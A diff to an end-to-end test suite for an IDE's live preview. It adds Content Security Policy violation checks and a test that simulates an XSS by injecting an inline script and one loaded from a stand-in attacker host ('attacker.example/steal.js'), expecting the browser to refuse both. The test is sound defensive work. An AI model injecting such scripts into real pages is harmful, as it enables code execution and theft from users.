@@ -199,6 +199,8 @@ describe("the live preview in Chromium", () => {
   });
 
   it("renders a TSX entry using React with the network off after a first visit", async () => {
+    // The page's `data:` modules run under the host's policy, online and offline.
+    const violations = await watchCspViolations(ann);
     const projectId = await createProject(ann, platform.origin, "Preview React");
     await ann.page.goto(`${platform.origin}/p/${projectId}`);
     await createFileInUi(ann.page, "index.html");
@@ -218,9 +220,33 @@ describe("the live preview in Chromium", () => {
     } finally {
       await ann.context.setOffline(false);
     }
+    expect(await violations()).toEqual([]);
+  });
+
+  it("refuses a script injected into the IDE's page, inline or from another origin", async () => {
+    const page = await ann.context.newPage();
+    const refused = new Promise<string>((resolve) =>
+      page.on("console", (message) => {
+        if (/Content Security Policy/.test(message.text())) resolve(message.text());
+      }),
+    );
+    await page.goto(`${platform.origin}/`);
+    // What an XSS in the IDE would do: an inline script, and one from another origin.
+    await page.evaluate(() => {
+      const inline = document.createElement("script");
+      inline.textContent = "window.__injected = 'ran'";
+      document.body.append(inline);
+      const remote = document.createElement("script");
+      remote.src = "https://attacker.example/steal.js";
+      document.body.append(remote);
+    });
+    expect(await refused).toContain("script-src");
+    expect(await page.evaluate(() => (window as { __injected?: string }).__injected)).toBeUndefined();
+    await page.close();
   });
 
   it("runs a Worker's fetch in the frame: HTML as a page, other answers as text with their status", async () => {
+    const violations = await watchCspViolations(ann);
     const projectId = await createProject(ann, platform.origin, "Preview Worker");
     await ann.page.goto(`${platform.origin}/p/${projectId}`);
     await createFileInUi(ann.page, "src/worker.ts");
@@ -257,6 +283,7 @@ describe("the live preview in Chromium", () => {
     await ann.page.getByRole("tab", { name: /greet\.ts/ }).click();
     await pasteEditorText(ann.page, WORKER_GREETING.replace("Hello", "Hi"));
     await expect.poll(() => frame.locator("#home").textContent(), { timeout: 10_000 }).toBe("Hi, worker");
+    expect(await violations()).toEqual([]);
   });
 
   it("serves a full stack project's pages from public/ and sends any other address to its Worker", async () => {
